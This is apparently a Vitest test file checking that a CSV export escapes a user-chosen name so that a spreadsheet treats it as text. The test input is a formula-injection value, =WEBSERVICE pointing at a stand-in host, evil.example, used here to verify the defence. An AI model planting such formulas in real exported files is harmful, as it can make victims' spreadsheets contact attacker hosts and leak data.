import { expect, test } from 'vitest'
import { toCsv } from './download.ts'

test('names that somebody chose are texts in a spreadsheet, and numbers are numbers', async () => {
  const csv = toCsv(['run', 'error'], [['=WEBSERVICE("http://evil.example")', -0.5]])
  expect(await csv.text()).toBe(`run,error\r\n"'=WEBSERVICE(""http://evil.example"")",-0.5\r\n`)
})
